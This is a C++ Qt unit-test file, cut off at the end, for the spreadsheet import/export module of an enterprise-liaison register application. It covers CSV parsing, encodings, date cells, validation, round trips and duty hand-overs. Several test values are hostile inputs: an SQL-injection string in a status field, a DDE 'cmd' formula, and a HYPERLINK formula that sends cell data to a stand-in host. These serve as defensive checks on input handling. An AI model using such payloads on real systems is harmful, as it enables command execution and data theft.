#include "CreditCode.h"
#include "Database.h"
#include "Repository.h"
#include "ScratchDatabase.h"
#include "exchange/CellDate.h"
#include "exchange/CsvReader.h"
#include "exchange/CsvWriter.h"
#include "exchange/ImportFile.h"
#include "exchange/SpreadsheetReader.h"
#include "exchange/TableExport.h"
#include "exchange/TableImport.h"
#include "exchange/XlsxTableWriter.h"
#include "scenario/JiulongpoScenario.h"

#include <QFile>
#include <QProcess>
#include <QRegularExpression>
#include <QStringEncoder>
#include <QTemporaryDir>
#include <QTest>
#include <QTranslator>

using namespace liaison;
using liaison::test::ScratchDatabase;

namespace {

ImportOptions dryRun()
{
    ImportOptions options;
    options.dryRun = true;
    return options;
}

// A valid credit code for the n-th made-up enterprise of a test.
QString creditCode(int n)
{
    const QString first17 = QStringLiteral("91500107") + QStringLiteral("%1").arg(n, 9, 10, QLatin1Char('0'));
    return first17 + CreditCode::checkCharacter(first17);
}

QByteArray gb18030(const QString& text)
{
    QStringEncoder encoder("GB18030");
    return encoder.encode(text);
}

qint64 enterpriseCount(Database& db)
{
    return Repository<Enterprise>(db).count().value_or(-1);
}

qint64 rowCount(Database& db, const char* table)
{
    return db.scalar(QStringLiteral("SELECT COUNT(*) FROM %1").arg(QLatin1StringView(table)))->toLongLong();
}

// The district's areas, departments and people, copied by name into another database: what an import
// of the other records refers to.
bool copyDutyScheme(Database& from, Database& to)
{
    QHash<Id, Id> areaIds;
    QHash<Id, Id> unitIds;
    const auto areas = Repository<Area>(from).list();
    const auto units = Repository<Unit>(from).list();
    const auto people = Repository<Person>(from).list();
    if (!areas || !units || !people)
        return false;
    for (Area area : *areas) {
        const Id old = std::exchange(area.id, 0);
        const auto made = Repository<Area>(to).create(area);
        if (!made)
            return false;
        areaIds.insert(old, *made);
    }
    for (Unit unit : *units) {
        const Id old = std::exchange(unit.id, 0);
        const auto made = Repository<Unit>(to).create(unit);
        if (!made)
            return false;
        unitIds.insert(old, *made);
    }
    for (Person person : *people) {
        person.id = 0;
        if (person.unitId)
            person.unitId = unitIds.value(*person.unitId);
        if (person.areaId)
            person.areaId = areaIds.value(*person.areaId);
        if (!Repository<Person>(to).create(person))
            return false;
    }
    return true;
}

CsvTable tableOf(const QStringList& header, const QList<QStringList>& rows)
{
    return *CsvReader::parse(CsvWriter::encode(header, rows));
}

} // namespace

class TestExchange final : public QObject
{
    Q_OBJECT

private slots:
    void csvFields_data();
    void csvFields();
    void csvErrorsNameTheLine();
    void encodings();
    void cellDates_data();
    void cellDates();
    void oneBadRowInAThousandWritesNothing();
    void knownCreditCodesAreUpdated();
    void exportThenImportGivesTheSameRegister();
    void missingColumnsAndDuplicates();
    void workbooksReadLikeCsv();
    void everyKindRoundTrips();
    void rowsNameWhatIsRegistered();
    void dutyRowsHandOver();
    void mappingAndCancelling();
    void headersReadBackInEitherLanguage();
    void formulaTextRoundTrips_data();
    void formulaTextRoundTrips();
    void exportsShowFormulasAsText();
    void oversizedFilesAreRefusedUnread();
};

void TestExchange::csvFields_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QList<QStringList>>("rows");
    QTest::newRow("plain, LF") << QStringLiteral("a,b\n1,2\n3,4\n")
                               << QList<QStringList>{{QStringLiteral("1"), QStringLiteral("2")},
                                                     {QStringLiteral("3"), QStringLiteral("4")}};
    QTest::newRow("CRLF, no last line end") << QStringLiteral("a,b\r\n1,2\r\n3,4")
                                            << QList<QStringList>{{QStringLiteral("1"), QStringLiteral("2")},
                                                                  {QStringLiteral("3"), QStringLiteral("4")}};
    QTest::newRow("quoted comma, quote, line break")
        << QStringLiteral("a,b\n\"x, y\",\"say \"\"hi\"\"\"\n\"two\r\nlines\",z\n")
        << QList<QStringList>{{QStringLiteral("x, y"), QStringLiteral("say \"hi\"")},
                              {QStringLiteral("two\r\nlines"), QStringLiteral("z")}};
    QTest::newRow("empty fields and blank lines")
        << QStringLiteral("a,b,c\n\n,,\n1,,3\n\n")
        << QList<QStringList>{{QString(), QString(), QString()},
                              {QStringLiteral("1"), QString(), QStringLiteral("3")}};
    QTest::newRow("Chinese") << QStringLiteral("企业名称,行业\n重庆隆鑫通用动力股份有限公司,摩托车\n")
                             << QList<QStringList>{{QStringLiteral("重庆隆鑫通用动力股份有限公司"),
                                                    QStringLiteral("摩托车")}};
}

void TestExchange::csvFields()
{
    QFETCH(QString, text);
    QFETCH(QList<QStringList>, rows);
    const auto table = CsvReader::parseText(text);
    QVERIFY2(table, table ? "" : qPrintable(table.error().message));
    QCOMPARE(table->rows, rows);
    QCOMPARE(table->lines.size(), rows.size());
}

void TestExchange::csvErrorsNameTheLine()
{
    const auto open = CsvReader::parseText(QStringLiteral("a,b\n1,2\n\"never closed,3\n4,5\n"));
    QVERIFY(!open);
    QVERIFY2(open.error().message.contains(QStringLiteral("Line 3")), qPrintable(open.error().message));
    const auto stray = CsvReader::parseText(QStringLiteral("a,b\n\"x\"y,2\n"));
    QVERIFY(!stray);
    QVERIFY(stray.error().message.contains(QStringLiteral("Line 2")));
    QVERIFY(!CsvReader::parseText(QString()));
    // A row's line is where it starts, counting the lines inside quoted fields.
    const auto lines = CsvReader::parseText(QStringLiteral("a\n\"1\n2\"\n3\n"));
    QVERIFY(lines);
    QCOMPARE(lines->lines, (QList<int>{2, 4}));
}

void TestExchange::encodings()
{
    const QString text = QStringLiteral("企业名称,所属镇街\n格力电器(重庆)有限公司,西彭工业园区\n");
    // As Excel saves "CSV" on a Chinese Windows desktop: GB18030 (GBK), no byte-order mark.
    const auto gb = CsvReader::parse(gb18030(text));
    QVERIFY(gb);
    QCOMPARE(gb->encoding, QStringLiteral("GB18030"));
    QCOMPARE(gb->rows.front().front(), QStringLiteral("格力电器(重庆)有限公司"));
    // "CSV UTF-8" from Excel: a byte-order mark.
    const auto marked = CsvReader::parse(QByteArrayLiteral("\xEF\xBB\xBF") + text.toUtf8());
    QVERIFY(marked);
    QCOMPARE(marked->encoding, QStringLiteral("UTF-8"));
    QCOMPARE(marked->header.front(), QStringLiteral("企业名称"));
    // An explicit encoding is obeyed, and a file that is not in it is refused, not garbled.
    QVERIFY(!CsvReader::parse(gb18030(text), TextEncoding::Utf8));
    const auto forced = CsvReader::parse(text.toUtf8(), TextEncoding::Gb18030);
    QVERIFY(!forced || forced->rows.front().front() != QStringLiteral("格力电器(重庆)有限公司"));
    // Round trip through the writer: UTF-8 with a mark, quoted where it must be.
    const QByteArray written =
        CsvWriter::encode({QStringLiteral("a"), QStringLiteral("b")},
                          {{QStringLiteral("x, \"y\""), QStringLiteral("two\nlines")}});
    QVERIFY(written.startsWith("\xEF\xBB\xBF"));
    const auto back = CsvReader::parse(written);
    QVERIFY(back);
    QCOMPARE(back->rows.front(), (QStringList{QStringLiteral("x, \"y\""), QStringLiteral("two\nlines")}));
}

void TestExchange::cellDates_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QDate>("day");
    const QDate day(2022, 12, 5);
    QTest::newRow("ISO") << QStringLiteral("2022-12-05") << day;
    QTest::newRow("slashes") << QStringLiteral("2022/12/5") << day;
    QTest::newRow("dots") << QStringLiteral("2022.12.5") << day;
    QTest::newRow("Chinese") << QStringLiteral("2022年12月5日") << day;
    QTest::newRow("compact") << QStringLiteral("20221205") << day;
    QTest::newRow("Excel serial") << QStringLiteral("44900") << day;
    QTest::newRow("Excel serial, decimal") << QStringLiteral("44900.0") << day;
    QTest::newRow("no 30 February") << QStringLiteral("2022-02-30") << QDate();
    QTest::newRow("month 13") << QStringLiteral("2022年13月1日") << QDate();
    QTest::newRow("not a date") << QStringLiteral("下周一") << QDate();
    QTest::newRow("small number") << QStringLiteral("5") << QDate();
    QTest::newRow("empty") << QString() << QDate();
}

void TestExchange::cellDates()
{
    QFETCH(QString, text);
    QFETCH(QDate, day);
    const auto parsed = parseCellDate(text);
    QCOMPARE(parsed.value_or(QDate()), day);
    if (day.isValid())
        QCOMPARE(excelSerial(day), 44900);
}

void TestExchange::oneBadRowInAThousandWritesNothing()
{
    ScratchDatabase scratch;
    auto db = scratch.open();
    QVERIFY(db);
    QVERIFY(JiulongpoScenario::load(*db));
    const qint64 before = enterpriseCount(*db);

    QString text = QStringLiteral("企业名称,统一社会信用代码,所属镇街,行业,序号\n");
    for (int n = 1; n <= 1000; ++n) {
        QString code = creditCode(n);
        if (n == 500)
            code.back() =
                code.back() == QLatin1Char('0') ? QLatin1Char('1') : QLatin1Char('0'); // wrong check
        text += QStringLiteral("重庆测试%1机械有限公司,%2,西彭镇,装备制造,%1\n").arg(n).arg(code);
    }
    const auto table = CsvReader::parse(gb18030(text));
    QVERIFY(table);
    const auto outcome = TableImport::run(*db, ImportKind::Enterprises, *table);
    QVERIFY(outcome);
    QVERIFY(!outcome->written);
    QCOMPARE(outcome->problems.size(), 1);
    QCOMPARE(outcome->problems.front().line, 501); // the header is line 1
    QCOMPARE(outcome->problems.front().column, QStringLiteral("统一社会信用代码"));
    QCOMPARE(outcome->ignoredColumns, QStringList{QStringLiteral("序号")});
    QCOMPARE(enterpriseCount(*db), before);

    // Corrected, the whole file goes in; a dry run first writes nothing.
    text.replace(QRegularExpression(QStringLiteral(",[0-9A-Z]{18},西彭镇,装备制造,500\n")),
                 QStringLiteral(",%1,西彭镇,装备制造,500\n").arg(creditCode(500)));
    const auto fixed = CsvReader::parse(text.toUtf8());
    QVERIFY(fixed);
    const auto dry = TableImport::run(*db, ImportKind::Enterprises, *fixed, dryRun());
    QVERIFY(dry && dry->problems.isEmpty() && !dry->written);
    QCOMPARE(dry->created, 1000);
    QCOMPARE(enterpriseCount(*db), before);
    const auto done = TableImport::run(*db, ImportKind::Enterprises, *fixed);
    QVERIFY(done && done->written);
    QCOMPARE(done->created, 1000);
    QCOMPARE(enterpriseCount(*db), before + 1000);
}

void TestExchange::knownCreditCodesAreUpdated()
{
    ScratchDatabase scratch;
    auto db = scratch.open();
    QVERIFY(db);
    QVERIFY(JiulongpoScenario::load(*db));
    const qint64 before = enterpriseCount(*db);
    auto all = Repository<Enterprise>(*db).list(
        {QStringLiteral("name = ?"), {QStringLiteral("重庆隆鑫通用动力股份有限公司")}});
    QVERIFY(all && all->size() == 1);
    const Enterprise loncin = all->front();

    const QString text = QStringLiteral("Enterprise name,Credit code,Area,Industry,Production status\n"
                                        "%1,%2,%3,通用动力,Partial production\n")
                             .arg(loncin.name, loncin.creditCode.toLower(), QStringLiteral("九龙工业园区"));
    const auto table = CsvReader::parseText(text);
    QVERIFY(table);
    const auto outcome = TableImport::run(*db, ImportKind::Enterprises, *table);
    QVERIFY(outcome);
    QVERIFY2(outcome->problems.isEmpty(), qPrintable(outcome->problemLines().join(QLatin1Char('\n'))));
    QCOMPARE(outcome->updated, 1);
    QCOMPARE(outcome->created, 0);
    QCOMPARE(enterpriseCount(*db), before);
    const auto updated = Repository<Enterprise>(*db).get(loncin.id);
    QVERIFY(updated);
    QCOMPARE(updated->industry, QStringLiteral("通用动力"));
    QCOMPARE(updated->productionStatus, ProductionStatus::Partial);
    // What the file does not mention stays: tags, white-list batch, address.
    QCOMPARE(updated->tags, loncin.tags);
    QCOMPARE(updated->whitelistBatchId, loncin.whitelistBatchId);
    QCOMPARE(updated->address, loncin.address);
}

void TestExchange::exportThenImportGivesTheSameRegister()
{
    ScratchDatabase source;
    auto from = source.open();
    QVERIFY(from);
    QVERIFY(JiulongpoScenario::load(*from));
    const auto exported = TableExport::rows(*from, ImportKind::Enterprises);
    QVERIFY(exported);
    QCOMPARE(exported->size(), enterpriseCount(*from));
    const QByteArray file = CsvWriter::encode(TableImport::header(ImportKind::Enterprises), *exported);

    // A new database with the district's towns, streets and parks, and no enterprise.
    ScratchDatabase target;
    auto to = target.open();
    QVERIFY(to);
    const auto areas = Repository<Area>(*from).list();
    QVERIFY(areas);
    for (Area area : *areas) {
        area.id = 0;
        QVERIFY(Repository<Area>(*to).create(area));
    }
    const auto table = CsvReader::parse(file);
    QVERIFY(table);
    const auto outcome = TableImport::run(*to, ImportKind::Enterprises, *table);
    QVERIFY(outcome);
    QVERIFY2(outcome->problems.isEmpty(),
             qPrintable(outcome->problemLines().mid(0, 5).join(QLatin1Char('\n'))));
    QCOMPARE(outcome->created, int(exported->size()));
    const auto again = TableExport::rows(*to, ImportKind::Enterprises);
    QVERIFY(again);
    QCOMPARE(*again, *exported);
}

void TestExchange::missingColumnsAndDuplicates()
{
    ScratchDatabase scratch;
    auto db = scratch.open();
    QVERIFY(db);
    QVERIFY(JiulongpoScenario::load(*db));
    const qint64 before = enterpriseCount(*db);

    const auto noArea = CsvReader::parseText(
        QStringLiteral("企业名称,统一社会信用代码,行业\n甲,%1,机械\n").arg(creditCode(1)));
    QVERIFY(noArea);
    const auto missing = TableImport::run(*db, ImportKind::Enterprises, *noArea);
    QVERIFY(missing && !missing->written);
    QCOMPARE(missing->problems.size(), 1);
    QCOMPARE(missing->problems.front().line, 1);

    const auto twice =
        CsvReader::parseText(QStringLiteral("企业名称,统一社会信用代码,所属镇街,行业,生产状态\n"
                                            "甲公司,%1,西彭镇,机械,\n"
                                            "乙公司,%1,西彭镇,机械,\n"
                                            "丙公司,%2,无此镇,机械,\n"
                                            "丁公司,%3,西彭镇,机械,半停产'; DROP TABLE enterprise;--\n")
                                 .arg(creditCode(1), creditCode(2), creditCode(3)));
    QVERIFY(twice);
    const auto outcome = TableImport::run(*db, ImportKind::Enterprises, *twice);
    QVERIFY(outcome && !outcome->written);
    QCOMPARE(outcome->problems.size(), 3);
    QCOMPARE(outcome->problems[0].line, 3);
    QVERIFY(outcome->problems[0].reason.contains(QStringLiteral("line 2")));
    QCOMPARE(outcome->problems[1].column, QStringLiteral("所属镇街"));
    QCOMPARE(outcome->problems[1].value, QStringLiteral("无此镇"));
    QCOMPARE(outcome->problems[2].column, QStringLiteral("生产状态"));
    QCOMPARE(enterpriseCount(*db), before);
}

void TestExchange::everyKindRoundTrips()
{
    ScratchDatabase source;
    auto from = source.open();
    QVERIFY(from);
    QVERIFY(JiulongpoScenario::load(*from));
    ScratchDatabase target;
    auto to = target.open();
    QVERIFY(to);
    QVERIFY(copyDutyScheme(*from, *to));

    // In the order the records refer to each other. Visits change an enterprise's production status
    // as they are recorded, so the register is compared before them.
    for (const ImportKind kind : TableImport::kinds) {
        const auto exported = TableExport::rows(*from, kind);
        QVERIFY(exported);
        QVERIFY2(!exported->isEmpty(), qPrintable(TableImport::kindName(kind)));
        const auto outcome = TableImport::run(*to, kind, tableOf(TableImport::header(kind), *exported));
        QVERIFY(outcome);
        QVERIFY2(outcome->problems.isEmpty(),
                 qPrintable(TableImport::kindName(kind) + QLatin1Char('\n') +
                            outcome->problemLines().mid(0, 5).join(QLatin1Char('\n'))));
        QVERIFY(outcome->written);
        QCOMPARE(outcome->created, int(exported->size()));
        if (kind == ImportKind::Visits)
            continue;
        const auto again = TableExport::rows(*to, kind);
        QVERIFY(again);
        QCOMPARE(*again, *exported);
    }
    QCOMPARE(rowCount(*to, "visit"), rowCount(*from, "visit"));
    // Resolved problems were taken through the workflow to resolved, each step on their timeline.
    const auto resolved = QStringLiteral("SELECT COUNT(*) FROM issue WHERE resolved_on IS NOT NULL");
    QCOMPARE(to->scalar(resolved)->toLongLong(), from->scalar(resolved)->toLongLong());
    QCOMPARE(to->scalar(QStringLiteral("SELECT COUNT(*) FROM issue WHERE id NOT IN "
                                       "(SELECT issue_id FROM issue_event WHERE kind = 'created')"))
                 ->toLongLong(),
             0);
}

void TestExchange::rowsNameWhatIsRegistered()
{
    ScratchDatabase scratch;
    auto db = scratch.open();
    QVERIFY(db);
    QVERIFY(JiulongpoScenario::load(*db));
    const auto some = Repository<Enterprise>(*db).list({{}, {}, QStringLiteral("id"), 2});
    QVERIFY(some && some->size() == 2);
    const Enterprise& first = some->at(0);
    const qint64 contacts = rowCount(*db, "contact");

    // A contact already registered at the enterprise is brought up to date, not entered twice.
    const auto known = Repository<Contact>(*db).list({QStringLiteral("enterprise_id = ?"), {first.id}});
    QVERIFY(known && !known->isEmpty());
    const auto upsert = TableImport::run(
        *db, ImportKind::Contacts,
        tableOf({QStringLiteral("统一社会信用代码"), QStringLiteral("联系人"), QStringLiteral("联系电话")},
                {{first.creditCode, known->front().name, QStringLiteral("13900000001")},
                 {first.creditCode, QStringLiteral("新联系人"), QStringLiteral("023-68000000")}}));
    QVERIFY(upsert && upsert->written);
    QCOMPARE(upsert->updated, 1);
    QCOMPARE(upsert->created, 1);
    QCOMPARE(rowCount(*db, "contact"), contacts + 1);
    QCOMPARE(Repository<Contact>(*db).get(known->front().id)->phone, QStringLiteral("13900000001"));

    // Whatever a row names must be registered; each miss is reported where it is, and nothing is written.
    const qint64 visits = rowCount(*db, "visit");
    const auto visitOutcome = TableImport::run(
        *db, ImportKind::Visits,
        tableOf(
            {QStringLiteral("企业名称"), QStringLiteral("走访日期"), QStringLiteral("走访人员"),
             QStringLiteral("走访方式"), QStringLiteral("在岗人数"), QStringLiteral("产能利用率")},
            {{first.name, QStringLiteral("2022年12月6日"), QStringLiteral("张三"), QStringLiteral("电话"),
              QStringLiteral("120"), QStringLiteral("85%")},
             {QStringLiteral("无此企业"), QStringLiteral("2022-12-06"), QStringLiteral("张三"), {}, {}, {}},
             {first.name, QStringLiteral("2022-13-01"), QStringLiteral("张三"), {}, {}, {}},
             {first.name,
              QStringLiteral("2022-12-07"),
              {},
              QStringLiteral("飞鸽"),
              QStringLiteral("-3"),
              QStringLiteral("120")}}));
    QVERIFY(visitOutcome && !visitOutcome->written);
    QCOMPARE(visitOutcome->created, 1);
    const QStringList lines = visitOutcome->problemLines();
    QCOMPARE(lines.size(), 6);
    QVERIFY2(lines[0].startsWith(QStringLiteral("line 3, 企业名称 “无此企业”")), qPrintable(lines[0]));
    QVERIFY2(lines[1].startsWith(QStringLiteral("line 4, 走访日期 “2022-13-01”")), qPrintable(lines[1]));
    QVERIFY2(lines[2].startsWith(QStringLiteral("line 5, 走访人员")), qPrintable(lines[2]));
    QVERIFY2(lines[3].startsWith(QStringLiteral("line 5, 走访方式 “飞鸽”")), qPrintable(lines[3]));
    QVERIFY2(lines[4].startsWith(QStringLiteral("line 5, 在岗人数 “-3”")), qPrintable(lines[4]));
    QVERIFY2(lines[5].startsWith(QStringLiteral("line 5, 产能利用率 “120”")), qPrintable(lines[5]));
    QCOMPARE(rowCount(*db, "visit"), visits);

    // Problems: the category must be one of the list, a resolved problem needs its lead department
    // and resolution, and the same problem is not registered twice.
    const qint64 issues = rowCount(*db, "issue");
    const QStringList header = {
        QStringLiteral("统一社会信用代码"), QStringLiteral("问题类别"), QStringLiteral("问题"),
        QStringLiteral("反映日期"),         QStringLiteral("牵头单位"), QStringLiteral("办理结果"),
        QStringLiteral("办结日期")};
    const auto issueOutcome = TableImport::run(*db, ImportKind::Issues,
                                               tableOf(header, {{first.creditCode,
                                                                 QStringLiteral("物流梗阻"),
                                                                 QStringLiteral("原料运不进来"),
                                                                 QStringLiteral("2022-12-05"),
                                                                 {},
                                                                 {},
                                                                 {}},
                                                                {first.creditCode,
                                                                 QStringLiteral("天气"),
                                                                 QStringLiteral("下雨"),
                                                                 QStringLiteral("2022-12-05"),
                                                                 {},
                                                                 {},
                                                                 {}},
                                                                {first.creditCode,
                                                                 QStringLiteral("通行证"),
                                                                 QStringLiteral("缺通行证"),
                                                                 QStringLiteral("2022-12-05"),
                                                                 {},
                                                                 {},
                                                                 QStringLiteral("2022-12-06")},
                                                                {first.creditCode,
                                                                 QStringLiteral("logistics"),
                                                                 QStringLiteral("原料运不进来"),
                                                                 QStringLiteral("2022/12/5"),
                                                                 {},
                                                                 {},
                                                                 {}}}));
    QVERIFY(issueOutcome && !issueOutcome->written);
    QCOMPARE(issueOutcome->problems.size(), 4);
    QCOMPARE(issueOutcome->problems[0].line, 3);
    QCOMPARE(issueOutcome->problems[0].column, QStringLiteral("问题类别"));
    QCOMPARE(issueOutcome->problems[1].column, QStringLiteral("牵头单位"));
    QCOMPARE(issueOutcome->problems[2].column, QStringLiteral("办理结果"));
    QCOMPARE(issueOutcome->problems[3].line, 5);
    QVERIFY(issueOutcome->problems[3].reason.contains(QStringLiteral("line 2")));
    QCOMPARE(rowCount(*db, "issue"), issues);

    // A resolved problem is taken through the workflow, its deadline counted in working days.
    const auto resolved = TableImport::run(
        *db, ImportKind::Issues,
        tableOf(header, {{first.creditCode, QStringLiteral("通行证"), QStringLiteral("缺通行证"),
                          QStringLiteral("2022-12-02"), QStringLiteral("区交通局"), QStringLiteral("已办理"),
                          QStringLiteral("2022-12-06")}}));
    QVERIFY(resolved);
    QVERIFY2(resolved->written, qPrintable(resolved->problemLines().join(QLatin1Char('\n'))));
    const auto stored =
        Repository<Issue>(*db).list({QStringLiteral("title = ?"), {QStringLiteral("缺通行证")}});
    QVERIFY(stored && stored->size() == 1);
    QCOMPARE(stored->front().status, IssueStatus::Resolved);
    QCOMPARE(stored->front().dueOn, QDate(2022, 12, 5)); // one working day after a Friday
    QCOMPARE(stored->front().resolvedOn, QDate(2022, 12, 6));
}

void TestExchange::dutyRowsHandOver()
{
    ScratchDatabase scratch;
    auto db = scratch.open();
    QVERIFY(db);
    QVERIFY(JiulongpoScenario::load(*db));
    const auto exported = TableExport::rows(*db, ImportKind::Duties);
    QVERIFY(exported && !exported->isEmpty());
    const QStringList header = TableImport::header(ImportKind::Duties);

    // The same assignments again change nothing.
    const qint64 assignments = rowCount(*db, "duty_assignment");
    const auto same = TableImport::run(*db, ImportKind::Duties, tableOf(header, *exported));
    QVERIFY(same && same->written);
    QCOMPARE(same->created + same->updated, 0);
    QCOMPARE(rowCount(*db, "duty_assignment"), assignments);

    // Another district leader from a later day: the assignment in force ends the day before.
    QStringList row = exported->front();
    const QString otherLeader =
        db->scalar(QStringLiteral(
                       "SELECT name FROM person WHERE unit_id IS NULL AND area_id IS NULL AND name <> ? "
                       "ORDER BY id LIMIT 1"),
                   {row[2]})
            ->toString();
    QVERIFY(!otherLeader.isEmpty());
    row[2] = otherLeader;
    row[7] = QStringLiteral("2022-12-10");
    QStringList early = row;
    early[7] = QStringLiteral("2000-01-01");
    const auto tooEarly = TableImport::run(*db, ImportKind::Duties, tableOf(header, {early}));
    QVERIFY(tooEarly && !tooEarly->written);
    QCOMPARE(tooEarly->problems.size(), 1);
    QCOMPARE(tooEarly->problems.front().column, header[7]);

    QStringList stranger = row;
    stranger[4] = otherLeader; // a department liaison who does not work for the department
    const auto wrongPerson = TableImport::run(*db, ImportKind::Duties, tableOf(header, {stranger}));
    QVERIFY(wrongPerson && !wrongPerson->written);
    QCOMPARE(wrongPerson->problems.front().column, header[4]);

    const auto handedOver = TableImport::run(*db, ImportKind::Duties, tableOf(header, {row}));
    QVERIFY(handedOver && handedOver->written);
    QCOMPARE(handedOver->updated, 1);
    QCOMPARE(rowCount(*db, "duty_assignment"), assignments + 1);
    const auto ended = db->scalar(QStringLiteral("SELECT MAX(valid_to) FROM duty_assignment"));
    QCOMPARE(ended->toDate(), QDate(2022, 12, 9));
}

void TestExchange::mappingAndCancelling()
{
    ScratchDatabase scratch;
    auto db = scratch.open();
    QVERIFY(db);
    QVERIFY(JiulongpoScenario::load(*db));
    const qint64 before = enterpriseCount(*db);
    // Headers no synonym knows: mapped by hand, and one column left out.
    const CsvTable table = tableOf({QStringLiteral("单位"), QStringLiteral("代码"), QStringLiteral("片区"),
                                    QStringLiteral("门类"), QStringLiteral("备注")},
                                   {{QStringLiteral("甲公司"), creditCode(1), QStringLiteral("西彭镇"),
                                     QStringLiteral("机械"), QStringLiteral("x")},
                                    {QStringLiteral("乙公司"), creditCode(2), QStringLiteral("西彭镇"),
                                     QStringLiteral("机械"), QStringLiteral("y")}});
    const ColumnMapping guessed = TableImport::guessMapping(ImportKind::Enterprises, table.header);
    QCOMPARE(guessed, (ColumnMapping{-1, -1, -1, -1, -1}));
    const auto unmapped = TableImport::run(*db, ImportKind::Enterprises, table);
    QVERIFY(unmapped && unmapped->problems.size() == 4); // four required columns missing

    ImportOptions options;
    const auto field = [](const char* key) {
        return TableImport::fieldNamed(ImportKind::Enterprises, QLatin1StringView(key));
    };
    options.mapping =
        ColumnMapping{field("name"), field("credit_code"), field("area"), field("industry"), -1};
    int told = 0;
    options.progress = [&](int done, int total) {
        ++told;
        return done < total; // cancel at the end: nothing may be written
    };
    const auto cancelled = TableImport::run(*db, ImportKind::Enterprises, table, options);
    QVERIFY(cancelled && cancelled->cancelled && !cancelled->written);
    QVERIFY(cancelled->problems.isEmpty());
    QCOMPARE(told, 1);
    QCOMPARE(enterpriseCount(*db), before);

    options.progress = {};
    const auto done = TableImport::run(*db, ImportKind::Enterprises, table, options);
    QVERIFY(done && done->written);
    QCOMPARE(done->ignoredColumns, QStringList{QStringLiteral("备注")});
    QCOMPARE(enterpriseCount(*db), before + 2);

    const ColumnMapping tooShort{0};
    options.mapping = tooShort;
    QVERIFY(!TableImport::run(*db, ImportKind::Enterprises, table, options));
}

void TestExchange::headersReadBackInEitherLanguage()
{
    // A file exported on a Chinese desktop is read on an English one, and the other way round.
    QHash<ImportKind, QStringList> english;
    for (const ImportKind kind : TableImport::kinds)
        english.insert(kind, TableImport::header(kind));
    QTranslator chinese;
    QVERIFY(chinese.load(QStringLiteral(":/i18n/liaisondesk_zh_CN.qm")));
    QVERIFY(QCoreApplication::installTranslator(&chinese));
    QHash<ImportKind, QStringList> translated;
    for (const ImportKind kind : TableImport::kinds) {
        translated.insert(kind, TableImport::header(kind));
        QVERIFY(translated[kind] != english[kind]);
        ColumnMapping everyField;
        for (int f = 0; f < int(english[kind].size()); ++f)
            everyField << f;
        QCOMPARE(TableImport::guessMapping(kind, english[kind]), everyField);
    }
    QCOMPARE(translated[ImportKind::Issues].at(2), QStringLiteral("问题类别"));
    QCoreApplication::removeTranslator(&chinese);
    for (const ImportKind kind : TableImport::kinds) {
        ColumnMapping everyField;
        for (int f = 0; f < int(translated[kind].size()); ++f)
            everyField << f;
        QCOMPARE(TableImport::guessMapping(kind, translated[kind]), everyField);
    }
}

void TestExchange::workbooksReadLikeCsv()
{
    // An .xlsx as this program writes it: commas, quotes, line breaks and Chinese come back intact.
    QTemporaryDir dir;
    const QString book = dir.filePath(QStringLiteral("register.xlsx"));
    const QStringList header = {QStringLiteral("企业名称"), QStringLiteral("备注")};
    const QList<QStringList> rows = {
        {QStringLiteral("格力电器(重庆)有限公司"), QStringLiteral("空调, 压缩机")},
        {QStringLiteral("重庆“渝西”铸造厂"), QStringLiteral("say \"hi\"\n第二行")}};
    QVERIFY(XlsxTableWriter::write(book, QStringLiteral("企业"), header, rows));
    const auto table = SpreadsheetReader::read(book);
    QVERIFY2(table, table ? "" : qPrintable(table.error().message));
    QCOMPARE(table->encoding, QStringLiteral("XLSX"));
    QCOMPARE(table->header, header);
    QCOMPARE(table->rows, rows);

    // An .ods as LibreOffice writes it, with a date kept as its serial number.
    const auto ods = SpreadsheetReader::read(QStringLiteral(LIAISON_TEST_DATA "/enterprises.ods"));
    QVERIFY2(ods, ods ? "" : qPrintable(ods.error().message));
    QCOMPARE(ods->header.first(), QStringLiteral("企业名称"));
    QCOMPARE(ods->rows.size(), 1);
    QCOMPARE(ods->rows.front().at(3), QStringLiteral("铸造, 机加工"));
    QCOMPARE(parseCellDate(ods->rows.front().at(4)), QDate(2022, 12, 5));

    // Not a workbook: a clear refusal.
    const QString fake = dir.filePath(QStringLiteral("fake.xlsx"));
    QFile file(fake);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write("企业名称,行业\n");
    file.close();
    const auto refused = SpreadsheetReader::read(fake);
    QVERIFY(!refused);
    QVERIFY(refused.error().message.contains(QStringLiteral("fake.xlsx")));
    QVERIFY(!SpreadsheetReader::read(dir.filePath(QStringLiteral("missing.ods"))));
}

void TestExchange::formulaTextRoundTrips_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("written"); // the CSV field as it is in the file
    QTest::newRow("hyperlink") << QStringLiteral("=HYPERLINK(\"http://x.example/\"&A2,\"详情\")")
                               << QStringLiteral(
                                      "\"'=HYPERLINK(\"\"http://x.example/\"\"&A2,\"\"详情\"\")\"");
    QTest::newRow("plus") << QStringLiteral("+86 138 0000 0000") << QStringLiteral("'+86 138 0000 0000");
    QTest::newRow("minus") << QStringLiteral("-2+3+cmd|' /C calc'!A0")
                           << QStringLiteral("'-2+3+cmd|' /C calc'!A0");
    QTest::newRow("at") << QStringLiteral("@SUM(A1:A9)") << QStringLiteral("'@SUM(A1:A9)");
    QTest::newRow("tab") << QStringLiteral("\t=1+1") << QStringLiteral("'\t=1+1");
    QTest::newRow("carriage return") << QStringLiteral("\r=1+1") << QStringLiteral("\"'\r=1+1\"");
    QTest::newRow("apostrophe before a formula") << QStringLiteral("'=1+1") << QStringLiteral("''=1+1");
    QTest::newRow("apostrophes before a formula") << QStringLiteral("''@x") << QStringLiteral("'''@x");
    QTest::newRow("apostrophe before text")
        << QStringLiteral("'s-Hertogenbosch") << QStringLiteral("'s-Hertogenbosch");
    QTest::newRow("formula characters inside") << QStringLiteral("a=b-c+d@e") << QStringLiteral("a=b-c+d@e");
    QTest::newRow("full-width equals sign") << QStringLiteral("＝全角等号") << QStringLiteral("＝全角等号");
}

void TestExchange::formulaTextRoundTrips()
{
    QFETCH(QString, text);
    QFETCH(QString, written);
    const QByteArray file = CsvWriter::encode({QStringLiteral("标题")}, {{text}});
    QVERIFY(file.startsWith("\xEF\xBB\xBF"));
    QCOMPARE(QString::fromUtf8(file.mid(3)), QStringLiteral("标题\r\n") + written + QStringLiteral("\r\n"));
    const auto table = CsvReader::parse(file);
    QVERIFY(table);
    QCOMPARE(table->rows, QList<QStringList>{{text}});
}

void TestExchange::exportsShowFormulasAsText()
{
    ScratchDatabase scratch;
    auto db = scratch.open();
